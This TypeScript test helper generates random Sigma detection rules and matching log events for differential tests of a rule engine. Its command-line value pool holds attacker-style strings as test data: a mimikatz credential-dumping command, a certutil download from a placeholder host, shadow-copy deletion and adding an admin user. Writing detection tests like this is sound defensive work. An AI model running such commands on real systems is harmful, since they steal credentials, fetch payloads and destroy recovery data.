// Random Sigma rules and events for the differential tests (engine vs reference matcher,
// explain vs engine): values drawn from shared pools so that many (rule, event) pairs match.
import type { Rng } from '../support/random.js';

export type Event = Record<string, unknown>;

// ---- value pools shared by rules and events ----------------------------------------------

const b64 = (s: string, wide = false): string => Buffer.from(s, wide ? 'utf16le' : 'utf8').toString('base64');

const POOL = {
  Image: [
    'C:\\Windows\\System32\\cmd.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'C:\\Users\\Админ\\AppData\\Local\\Temp\\evil.exe',
    '/usr/bin/tree',
    'C:\\Program Files\\ΣΥΣΤΗΜΑ\\app.exe',
    'c:\\temp\\a*b?.exe',
    'C:\\Windows\\explorer.exe',
    'Ρrocess.exe',
  ],
  CommandLine: [
    'cmd.exe /c whoami',
    `powershell -enc ${b64('ping 127.0.0.1', true)}`,
    `powershell /ENC ${b64('xping 127.0.0.1', true)}`,
    `echo ${b64('ab ping')} | base64 -d`,
    'mimikatz.exe "sekurlsa::logonpasswords" exit',
    'rundll32.exe —s payload.dll,Start',
    'tree /f C:\\',
    'net user admin P@ss /add',
    'certutil -urlcache -split -f http://x/a.exe',
    'echo Привет мир\nline2',
    'schtasks /create /tn οδος',
    'vssadmin.exe Delete Shadows /All /Quiet',
  ],
  User: ['admin', 'Administrator', 'NT AUTHORITY\\SYSTEM', 'Админ', 'ΟΔΟΣ', 'guest', '', 'root', 'adm_bob', 'İzmir'],
  Tags: ['attack.t1059', 'ATTACK.T1003', 'evil', 'Зло', 'benign', 'οδοσ'],
  Path: ['HKLM\\Software\\Run', 'hklm\\software\\run\\x', 'value', 'Значение', 'a.b.c'],
  Time: [
    '2024-01-01T23:59:59+02:00',
    '2023-12-31 00:05:00.123',
    '2024-06-15T12:30:00Z',
    '2021-01-03T08:00:00Z',
    '2024-02-29T22:15:00.5-05:00',
    'garbage',
  ],
  Ip: [
    '10.0.0.1',
    '10.255.255.255',
    '192.168.1.20',
    '172.16.5.4',
    '172.32.0.1',
    '8.8.8.8',
    '2001:db8::1',
    '2001:0DB8:0000:0000:0000:0000:0000:00ff',
    'fe80::1',
    '::1',
    '10.0.0',
    'localhost',
    '256.1.1.1',
  ],
  // Channel and EventID are what the evaluator routes on (detect/key-routing.ts): case
  // variants, a long s (folds to 's'), a Cyrillic look-alike (does not), spaces, empty.
  Channel: ['Security', 'Microsoft-Windows-Sysmon/Operational', 'System', 'ſecurity', 'Ѕecurity', 'security ', '', 'Application'],
  EventIdNumbers: [1, 4624, 4688, 7045],
  EventIdStrings: ['4688', '1', ' 4688', '04688', '4688.0', '7045'],
  CountNumbers: [0, 1, 5, 5.5, -3, 10, 100, 2147943140],
  CountStrings: ['10', ' 12 ', '0x10', '12abc', '', ' ', '-3', '1.5', 'abc', '5'],
  Keywords: ['ping', 'evil', 'Админ', 'whoami', 'ΣΥΣΤΗΜΑ', 'shadows', '4688', 'run', 'tree'],
  Cidrs: ['10.0.0.0/8', '192.168.0.0/16', '172.16.0.0/12', '2001:db8::/32', 'fe80::/10', '::1/128', '0.0.0.0/0', '8.8.8.8', '::/0'],
} as const;

/** Fields that never hold a list: fieldref targets (a list there has no defined meaning). */
const SCALAR_FIELDS = ['Image', 'User', 'EventID', 'Count', 'Ip', 'Nested.Path'] as const;
const ALL_FIELDS = ['Image', 'CommandLine', 'User', 'EventID', 'Count', 'Ip', 'Tags', 'Nested.Path', 'Time', 'Channel'] as const;

function mixCase(rng: Rng, s: string): string {
  switch (rng.int(4)) {
    case 0:
      return s.toUpperCase();
    case 1:
      return s.toLowerCase();
    case 2:
      return [...s].map((c) => (rng.chance(0.5) ? c.toUpperCase() : c.toLowerCase())).join('');
    default:
      return s;
  }
}

function poolFor(field: string): readonly string[] {
  if (field === 'Nested.Path') return POOL.Path;
  if (field === 'Tags') return POOL.Tags;
  return (POOL as unknown as Record<string, readonly string[]>)[field] ?? POOL.Keywords;
}

function slice(rng: Rng, s: string, kind: 'any' | 'prefix' | 'suffix'): string {
  const chars = [...s];
  if (chars.length === 0) return 'x';
  const len = rng.between(1, Math.min(chars.length, 8));
  const start = kind === 'prefix' ? 0 : kind === 'suffix' ? chars.length - len : rng.int(chars.length - len + 1);
  return chars.slice(start, start + len).join('');
}

// ---- rule generation ----------------------------------------------------------------------

const yamlString = (s: string): string => `'${s.replace(/'/g, "''").replace(/\n/g, ' ')}'`;

/** A rule value, with Sigma wildcards sometimes put in (values hold literal backslashes). */
function withWildcards(rng: Rng, s: string): string {
  const chars = [...s];
  if (chars.length < 3 || !rng.chance(0.3)) return s;
  const i = rng.int(chars.length);
  if (rng.chance(0.5)) chars[i] = '?';
  else chars.splice(i, rng.between(1, Math.min(3, chars.length - i)), '*');
  return chars.join('');
}

const regexEscape = (c: string): string => c.replace(/[\\^$.|?*+()[\]{}]/g, (x) => `\\${x}`);

/** A regex that often matches text containing `s`: its escaped characters with a few replaced by classes. */
function regexFor(rng: Rng, s: string): string {
  const tokens = [...s].map(regexEscape);
  for (let k = 0; k < 2 && tokens.length > 2; k++) {
    const i = rng.int(tokens.length);
    tokens[i] = rng.pick(['.', '.?', '[a-zA-Z]', '\\w', '.*', `(?:${tokens[i] as string}|zz)`]);
  }
  let body = tokens.join('');
  if (rng.chance(0.2)) body = `^${body}`;
  if (rng.chance(0.2)) body = `${body}$`;
  if (rng.chance(0.15)) body = `(?i)${body}`;
  return body;
}

interface Item {
  readonly key: string;
  readonly value: string; // YAML text of the value (scalar or flow list)
}

const list = (values: readonly string[]): string => `[${values.join(', ')}]`;

function stringItem(rng: Rng, field: string): Item {
  const pool = poolFor(field);
  const src = (): string => mixCase(rng, rng.pick(pool));
  const cased = rng.chance(0.15) ? '|cased' : '';
  const neq = rng.chance(0.1) ? '|neq' : '';
  switch (rng.int(15)) {
    case 0:
    case 1:
      return { key: `${field}${cased}${neq}`, value: yamlString(withWildcards(rng, rng.chance(0.3) ? rng.pick(pool) : src())) };
    case 2:
      return { key: `${field}|contains${cased}${neq}`, value: yamlString(withWildcards(rng, slice(rng, src(), 'any'))) };
    case 3:
      return { key: `${field}|startswith${cased}`, value: yamlString(slice(rng, src(), 'prefix')) };
    case 4:
      return { key: `${field}|endswith${neq}`, value: yamlString(slice(rng, src(), 'suffix')) };
    case 5:
      return { key: `${field}|contains|all`, value: list([yamlString(slice(rng, src(), 'any')), yamlString(slice(rng, src(), 'any'))]) };
    case 6:
      return { key: `${field}|contains${cased}`, value: list([0, 1, 2].map(() => yamlString(slice(rng, src(), 'any')))) };
    case 7:
      return { key: `${field}|re${rng.chance(0.3) ? '|i' : ''}${rng.chance(0.1) ? '|s' : ''}${rng.chance(0.1) ? '|m' : ''}`, value: yamlString(regexFor(rng, slice(rng, src(), 'any'))) };
    case 8: {
      const target = rng.pick(SCALAR_FIELDS.filter((f) => f !== field));
      const pos = rng.pick(['', '|contains', '|startswith', '|endswith']);
      return { key: `${field}|fieldref${pos}${rng.chance(0.2) ? '|cased' : ''}${neq}`, value: target };
    }
    case 9:
      return { key: `${field}|exists`, value: rng.pick(['true', 'false']) };
    case 10:
      return { key: `${field}${neq}`, value: rng.pick(['null', "''", "'*'", '[]']) };
    case 11:
      if (field === 'CommandLine') {
        const word = rng.pick(['ping', '127.0.0.1', 'ping 127', 'ab ping']);
        const enc = rng.pick(['|base64offset|contains', '|wide|base64offset|contains', '|utf16le|base64offset|contains', '|base64|contains']);
        return { key: `${field}${enc}`, value: yamlString(word) };
      }
      return { key: `${field}|contains`, value: yamlString(slice(rng, src(), 'any')) };
    case 12:
      if (field === 'CommandLine') {
        const flags = [' -c ', ' -enc ', ' -f', '-s ', '/quiet'];
        return { key: `${field}|windash|contains${rng.chance(0.3) ? '|all' : ''}`, value: list([rng.pick(flags), rng.pick(flags)].map(yamlString)) };
      }
      return { key: `${field}|startswith`, value: yamlString(slice(rng, src(), 'prefix')) };
    case 13:
      return { key: `${field}|contains`, value: yamlString(mixCase(rng, rng.pick(POOL.Keywords))) };
    default:
      return { key: `${field}${cased}`, value: list([yamlString(src()), yamlString(src())]) };
  }
}

function numberItem(rng: Rng, field: 'EventID' | 'Count'): Item {
  const numbers: readonly number[] = field === 'EventID' ? POOL.EventIdNumbers : POOL.CountNumbers;
  const n = (): string => String(rng.pick(numbers));
  switch (rng.int(8)) {
    case 0:
    case 1:
      return { key: field, value: rng.chance(0.3) ? list([n(), n()]) : n() };
    case 2:
      return { key: field, value: yamlString(rng.chance(0.5) ? n() : rng.pick(field === 'EventID' ? POOL.EventIdStrings : POOL.CountStrings)) };
    case 3:
    case 4:
      return { key: `${field}|${rng.pick(['gt', 'gte', 'lt', 'lte'])}`, value: rng.chance(0.2) ? '1.5' : n() };
    case 5:
      return { key: `${field}|neq`, value: n() };
    case 6:
      return { key: `${field}|contains`, value: yamlString(slice(rng, n(), 'any')) };
    default:
      return { key: `${field}|re`, value: yamlString(`^${slice(rng, n(), 'prefix').replace(/[.-]/g, (c) => `\\${c}`)}`) };
  }
}

function ipItem(rng: Rng): Item {
  switch (rng.int(4)) {
    case 0:
    case 1:
      return { key: 'Ip|cidr', value: rng.chance(0.3) ? list([yamlString(rng.pick(POOL.Cidrs)), yamlString(rng.pick(POOL.Cidrs))]) : yamlString(rng.pick(POOL.Cidrs)) };
    case 2:
      return { key: 'Ip', value: yamlString(mixCase(rng, rng.pick(POOL.Ip))) };
    default:
      return { key: 'Ip|startswith', value: yamlString(slice(rng, rng.pick(POOL.Ip), 'prefix')) };
  }
}

function timeItem(rng: Rng): Item {
  const part = rng.pick(['minute', 'hour', 'day', 'week', 'month', 'year'] as const);
  const values: Record<typeof part, readonly number[]> = {
    minute: [0, 5, 15, 30, 59],
    hour: [0, 8, 12, 22, 23],
    day: [1, 3, 15, 29, 31],
    week: [1, 9, 24, 52, 53],
    month: [1, 2, 6, 12],
    year: [2021, 2023, 2024],
  };
  const op = rng.chance(0.4) ? `|${rng.pick(['gt', 'gte', 'lt', 'lte'])}` : '';
  return { key: `Time|${part}${op}`, value: String(rng.pick(values[part])) };
}

function itemFor(rng: Rng, field: string): Item {
  if (field === 'EventID' || field === 'Count') return numberItem(rng, field);
  if (field === 'Ip') return ipItem(rng);
  if (field === 'Time') return timeItem(rng);
  return stringItem(rng, field);
}

function mapBlock(rng: Rng, indent: string): string {
  const items = new Map<string, string>();
  const count = rng.between(1, 3);
  for (let i = 0; i < count * 2 && items.size < count; i++) {
    const item = itemFor(rng, rng.pick(ALL_FIELDS));
    if (!items.has(item.key)) items.set(item.key, item.value);
  }
  return [...items].map(([k, v]) => `${indent}${yamlString(k)}: ${v}`).join('\n');
}

function identifierBlock(rng: Rng): string {
  const r = rng.int(10);
  if (r < 6) return mapBlock(rng, '    ');
  if (r < 8) {
    // OR of AND groups
    const n = rng.between(2, 3);
    return Array.from({ length: n }, () => mapBlock(rng, '      ').replace(/^ {6}/, '    - ')).join('\n');
  }
  if (r === 8) {
    const words = Array.from({ length: rng.between(1, 3) }, () => yamlString(mixCase(rng, withWildcards(rng, rng.pick(POOL.Keywords)))));
    return words.map((w) => `    - ${w}`).join('\n');
  }
  const mods = rng.pick(['|all', '|cased', '|re', '|windash']);
  const values = mods === '|re' ? [yamlString(regexFor(rng, rng.pick(POOL.Keywords)))] : [rng.pick(POOL.Keywords), rng.pick(POOL.Keywords)].map(yamlString);
  return `    '${mods}': ${list(values)}`;
}

function conditionFor(rng: Rng, names: readonly string[], depth = 0): string {
  const r = rng.int(depth > 2 ? 3 : 10);
  if (r < 3) return rng.pick(names);
  switch (r) {
    case 3:
      return `not ${conditionFor(rng, names, depth + 1)}`;
    case 4:
    case 5:
      return `(${conditionFor(rng, names, depth + 1)} and ${conditionFor(rng, names, depth + 1)})`;
    case 6:
      return `(${conditionFor(rng, names, depth + 1)} or ${conditionFor(rng, names, depth + 1)})`;
    case 7:
      return rng.pick(['1 of sel*', 'all of sel*', '1 of filter_*', 'all of filter_*', '1 of them', 'all of them', 'any of *']);
    case 8:
      // Unparenthesised: precedence decides.
      return `${rng.pick(names)} and not ${rng.pick(names)} or ${rng.pick(names)}`;
    default:
      return `${conditionFor(rng, names, depth + 1)} and not 1 of filter_*`;
  }
}

export function ruleYaml(rng: Rng, index: number): string {
  const names: string[] = [];
  const blocks: string[] = [];
  const n = rng.between(1, 4);
  for (let i = 0; i < n; i++) {
    const name = rng.chance(0.3) ? `filter_${i}` : `sel${i}`;
    names.push(name);
    blocks.push(`  ${name}:\n${identifierBlock(rng)}`);
  }
  return `title: 'random rule ${index}'\nlogsource:\n  product: test\ndetection:\n${blocks.join('\n')}\n  condition: ${conditionFor(rng, names)}\n`;
}

// ---- event generation ---------------------------------------------------------------------

function fieldValue(rng: Rng, field: string): unknown {
  if (rng.chance(0.06)) return null;
  switch (field) {
    case 'EventID':
      return rng.chance(0.6) ? rng.pick(POOL.EventIdNumbers) : rng.pick(POOL.EventIdStrings);
    case 'Count':
      return rng.chance(0.5) ? rng.pick(POOL.CountNumbers) : rng.chance(0.1) ? rng.chance(0.5) : rng.pick(POOL.CountStrings);
    case 'Ip':
      return mixCase(rng, rng.pick(POOL.Ip));
    case 'Time':
      return rng.pick(POOL.Time);
    case 'Tags':
      return rng.chance(0.85) ? Array.from({ length: rng.int(4) }, () => mixCase(rng, rng.pick(POOL.Tags))) : mixCase(rng, rng.pick(POOL.Tags));
    case 'CommandLine':
      if (rng.chance(0.15)) return [mixCase(rng, rng.pick(POOL.CommandLine)), mixCase(rng, rng.pick(POOL.CommandLine))];
      return rng.chance(0.5) ? rng.pick(POOL.CommandLine) : mixCase(rng, rng.pick(POOL.CommandLine));
    case 'User':
      return rng.chance(0.05) ? rng.pick([true, false, 42]) : mixCase(rng, rng.pick(POOL.User));
    case 'Channel':
      if (rng.chance(0.1)) return [mixCase(rng, rng.pick(POOL.Channel)), rng.pick(POOL.Channel)];
      if (rng.chance(0.05)) return 4688;
      return rng.chance(0.5) ? rng.pick(POOL.Channel) : mixCase(rng, rng.pick(POOL.Channel));
    default:
      return rng.chance(0.5) ? rng.pick(poolFor(field)) : mixCase(rng, rng.pick(poolFor(field)));
  }
}

export function eventFor(rng: Rng): Event {
  const event: Event = {};
  for (const field of ALL_FIELDS) {
    if (rng.chance(0.3)) continue; // absent
    const value = fieldValue(rng, field);
    if (field === 'Nested.Path') {
      const r = rng.int(3);
      if (r === 0) event['Nested.Path'] = value;
      else if (r === 1) event['Nested'] = { Path: value, Other: mixCase(rng, rng.pick(POOL.Keywords)) };
      else event['Nested'] = rng.chance(0.5) ? { Deeper: { x: value } } : 'flat';
    } else {
      event[field] = value;
    }
  }
  if (rng.chance(0.25)) {
    // Equal values in two fields, so fieldref comparisons hold now and then.
    const [from, to] = [rng.pick(SCALAR_FIELDS), rng.pick(SCALAR_FIELDS)];
    const value = from === 'Nested.Path' ? event['Nested.Path'] : event[from];
    if (to !== 'Nested.Path' && to !== from && value !== undefined) {
      event[to] = typeof value === 'string' && rng.chance(0.5) ? mixCase(rng, value) : typeof value === 'number' && rng.chance(0.3) ? String(value) : value;
    }
  }
  if (rng.chance(0.3)) event['Extra'] = { list: [rng.pick(POOL.Keywords), { deep: mixCase(rng, rng.pick(POOL.Keywords)) }], n: rng.pick(POOL.CountNumbers) };
  return event;
}
